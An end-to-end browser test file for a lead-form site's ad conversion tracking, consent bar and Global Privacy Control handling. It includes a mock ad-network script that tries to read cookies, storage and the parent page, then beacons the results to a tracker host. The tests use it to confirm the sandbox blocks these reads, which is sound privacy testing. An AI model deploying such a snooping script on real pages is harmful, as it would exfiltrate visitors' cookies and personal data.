import type { Page, Request } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { brand } from '#shared/brand/brand.ts';
import { chrome } from '#shared/brand/chrome.ts';
import { adConsent } from '#shared/brand/consent.ts';
import { messages } from '#shared/brand/messages.ts';
import { adEnv, adHost, adProvider, consentBar, missingLogo } from '#test/support/adSite.ts';
import { browserApp, patience, type Visit, visit } from '#test/support/browser.ts';
import { layoutShift, observeLayoutShift } from '#test/support/layoutShift.ts';
import { insertProvider, leadInput } from '#test/support/factories.ts';
import { fillLeadForm, submitButton } from '#test/support/fillLeadForm.ts';
import { meets } from '#test/support/meets.ts';
import type { TestApp } from '#test/support/testApp.ts';

const tagHosts = ['www.googletagmanager.com', 'googleads.g.doubleclick.net', 'bat.bing.com'];
// Two sites for all tests: no visit sees another's data.
let app: TestApp;
let withoutIds: TestApp;
beforeAll(async () => {
  [app, withoutIds] = await Promise.all([browserApp({ env: adEnv }), browserApp()]);
  for (const site of [app, withoutIds]) {
    await insertProvider(site.db, adProvider);
    await site.knows(adHost);
  }
});
afterAll(() => Promise.all([app[Symbol.asyncDispose](), withoutIds[Symbol.asyncDispose]()]));

/** Replaces both networks. Its scripts send everything they can read in and around their page. */
async function actAsNetworks({ context }: Visit): Promise<Request[]> {
  const asked: Request[] = [];
  const report = (to: string, queue: string) => `{
    const attempt = (read) => { try { return String(read()); } catch (error) { return error.name; } };
    const found = {
      address: location.href, referrer: document.referrer, title: document.title, queue: JSON.stringify(window.${queue}),
      cookie: attempt(() => document.cookie), stored: attempt(() => localStorage.length),
      above: attempt(() => parent.document.body.innerHTML), aboveAddress: attempt(() => parent.location.href),
    };
    new Image().src = '${to}?' + new URLSearchParams(found);
  }`;
  const scripts: Record<string, string> = {
    'www.googletagmanager.com': report('https://googleads.g.doubleclick.net/seen', 'dataLayer'),
    'bat.bing.com': report('https://bat.bing.com/seen', 'uetq'),
  };
  await context.route(
    (url) => tagHosts.includes(url.host),
    async (route) => {
      asked.push(route.request());
      const { host, pathname } = new URL(route.request().url());
      if (pathname === '/seen') await route.fulfill({ status: 204, body: '' });
      else await route.fulfill({ contentType: 'text/javascript', body: scripts[host] ?? '' });
    },
  );
  return asked;
}

async function sendLead(page: Page, address: string) {
  const { first_name, last_name, email, phone } = leadInput();
  const typed = { first_name, last_name, email, phone, zip_code: '80202' };
  await page.goto(address);
  await fillLeadForm(page, typed);
  await submitButton(page).click();
  await page.waitForURL('**/success?*', patience);
  return typed;
}

describe.each([
  { name: 'the main site', host: 'localhost', google: 'AW-111111', sendTo: 'AW-111111/BrAnD' },
  { name: "a clinic's host", host: adHost, google: 'AW-333333', sendTo: 'AW-333333' },
])('a lead of $name', ({ host, google, sendTo }) => {
  test('is reported once after consent, by scripts that see neither person nor page', async () => {
    meets('P4.state.21 P7.call.53 D.privacy.05 D.privacy.08');
    await using visitor = await visit(app, { host, expectedHosts: tagHosts, expectedConsole: missingLogo });
    const { page } = visitor;
    const asked = await actAsNetworks(visitor);
    await page.goto('/');
    await consentBar(page).getByRole('button', { name: adConsent.accept }).click();
    expect(asked).toEqual([]);
    const typed = await sendLead(page, '/?utm_source=secret-campaign&gclid=secret-click');
    await expect.poll(() => asked.length, patience).toBe(4);
    await Promise.all(asked.map((request) => request.response()));

    expect(
      asked.map((request) => request.url().split('?')[0] ?? '').toSorted((a, b) => a.localeCompare(b)),
    ).toEqual([
      'https://bat.bing.com/bat.js',
      'https://bat.bing.com/seen',
      'https://googleads.g.doubleclick.net/seen',
      'https://www.googletagmanager.com/gtag/js',
    ]);
    const everything = decodeURIComponent(
      asked
        .map((request) => `${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`)
        .join('\n')
        .replaceAll('+', ' '),
    );
    for (const secret of [...Object.values(typed), 'secret-', 'success', 'utm_', brand.plainName, 'Practice'])
      expect(everything).not.toContain(secret);
    expect(everything).toContain(`id=${google}`);
    const seen = asked.find((request) => request.url().includes('doubleclick'))?.url() ?? '';
    const found = new URL(seen).searchParams;
    expect(found.get('address')).toBe(`${visitor.origin}/ads/conversion`);
    expect(found.get('referrer')).toBe('');
    for (const closed of ['cookie', 'stored', 'above', 'aboveAddress'])
      expect(found.get(closed)).toBe('SecurityError');
    expect(found.get('queue')).toContain(`"send_to":"${sendTo}"`);
    expect(found.get('queue')).toMatch(/"transaction_id":"[0-9a-f-]{36}"/);
    expect(found.get('queue')).toContain('"ad_user_data":"denied","ad_personalization":"denied"');

    await page.reload();
    await visitor.settled();
    expect(asked).toHaveLength(4);
  });
});

test('without consent, or with Global Privacy Control, no lead is reported', async () => {
  meets('D.privacy.05 D.privacy.06');
  for (const answer of [null, adConsent.decline, adConsent.accept] as const) {
    await using visitor = await visit(app, {
      expectedConsole: missingLogo,
      ...(answer === adConsent.accept ? { optOut: 'script' } : {}),
    });
    const { page } = visitor;
    // Accepted before the signal was switched on.
    if (answer === adConsent.accept)
      await page.addInitScript(() => localStorage.setItem('ads.choice', 'accepted'));
    if (answer === adConsent.decline) {
      await page.goto('/');
      await consentBar(page).getByRole('button', { name: answer }).click();
    }
    await sendLead(page, '/');
    await visitor.settled();
    expect(await page.locator('iframe').count()).toBe(0);
  }
});

test('a blocked tag neither delays nor breaks the confirmation', async () => {
  await using visitor = await visit(app, {
    expectedHosts: tagHosts,
    expectedConsole: /ERR_FAILED|status of 404/,
  });
  const { page } = visitor;
  await visitor.context.route(
    (url) => tagHosts.includes(url.host),
    (route) => route.abort(),
  );
  await page.goto('/');
  await consentBar(page).getByRole('button', { name: adConsent.accept }).click();
  await sendLead(page, '/');
  await expect.poll(() => page.title()).toContain(messages.thankYou);
});

describe('the consent bar', () => {
  test('appears only on sites with ad ids, without moving focus, layout or text', async () => {
    meets('D.privacy.04');
    {
      await using visitor = await visit(withoutIds, { expectedConsole: missingLogo });
      await visitor.page.goto('/');
      await visitor.settled();
      expect(await consentBar(visitor.page).count()).toBe(0);
      expect(await visitor.page.getByRole('link', { name: chrome.footer.privacyChoices }).count()).toBe(0);
    }
    for (const width of [360, 1280]) {
      await using visitor = await visit(withoutIds, { host: adHost, expectedConsole: missingLogo, width });
      const { page } = visitor;
      await observeLayoutShift(page);
      await page.goto('/');
      await consentBar(page).waitFor();
      await visitor.settled();
      // A bar in the page's flow would shift it by its height, which is more. A font that is late shifts it a little.
      expect(await layoutShift(page)).toBeLessThan(0.05);
      await expect.poll(() => page.evaluate(() => document.activeElement === document.body)).toBe(true);
      await visitor.expectAccessible();
      const hiddenAtEnd = async (): Promise<number> => {
        await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
        const [edge, end] = await Promise.all([
          consentBar(page).evaluate((element) => element.getBoundingClientRect().top),
          page.locator('footer').evaluate((element) => element.getBoundingClientRect().bottom),
        ]);
        return end - edge;
      };
      await expect.poll(hiddenAtEnd, patience).toBeLessThanOrEqual(1);
      const [accept, decline] = await Promise.all(
        [adConsent.accept, adConsent.decline].map((name) =>
          consentBar(page)
            .getByRole('button', { name })
            .evaluate((button) => {
              const { width: wide, height } = button.getBoundingClientRect();
              const { color, backgroundColor, borderColor, fontWeight } = getComputedStyle(button);
              return { wide: Math.round(wide), height, color, backgroundColor, borderColor, fontWeight };
            }),
        ),
      );
      expect(accept).toEqual(decline);
    }
  });

  test('works by keyboard, stores the choice and opens again by the footer’s link', async () => {
    await using visitor = await visit(app);
    const { page } = visitor;
    await page.goto('/');
    await consentBar(page).getByRole('button', { name: adConsent.accept }).press('Tab');
    await expect.poll(() => page.evaluate(() => document.activeElement?.textContent)).toBe(adConsent.decline);
    await page.keyboard.press('Enter');
    await consentBar(page).waitFor({ state: 'detached' });
    await expect.poll(() => page.evaluate(() => document.activeElement?.localName)).toBe('main');
    await page.reload();
    await visitor.settled();
    expect(await consentBar(page).count()).toBe(0);
    const link = page.getByRole('link', { name: chrome.footer.privacyChoices });
    await link.focus();
    await page.keyboard.press('Enter');
    await consentBar(page).waitFor();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await consentBar(page).waitFor({ state: 'detached' });
    await expect
      .poll(() => page.evaluate(() => document.activeElement?.textContent))
      .toBe(chrome.footer.privacyChoices);
    expect(await page.evaluate(() => localStorage.getItem('ads.choice'))).toBe('accepted');
  });

  test('works without browser storage', async () => {
    await using visitor = await visit(app);
    const { page } = visitor;
    await page.addInitScript(() =>
      Object.defineProperty(window, 'localStorage', {
        get: () => {
          throw new DOMException('refused', 'SecurityError');
        },
      }),
    );
    await page.goto('/');
    await consentBar(page).getByRole('button', { name: adConsent.decline }).click();
    await consentBar(page).waitFor({ state: 'detached' });
    await expect
      .poll(() => page.getByRole('link', { name: chrome.footer.privacyChoices }).count(), patience)
      .toBe(1);
  });
});

test.each(['header', 'script'] as const)(
  'the footer confirms Global Privacy Control only if it is received by %s',
  async (optOut) => {
    const line = chrome.footer.optedOut;
    await using visitor = await visit(withoutIds, { optOut });
    await visitor.page.goto('/');
    await visitor.page.getByText(line).waitFor();
    await visitor.expectAccessible();
    await using other = await visit(withoutIds);
    await other.page.goto('/');
    await other.settled();
    expect(await other.page.getByText(line).count()).toBe(0);
  },
);
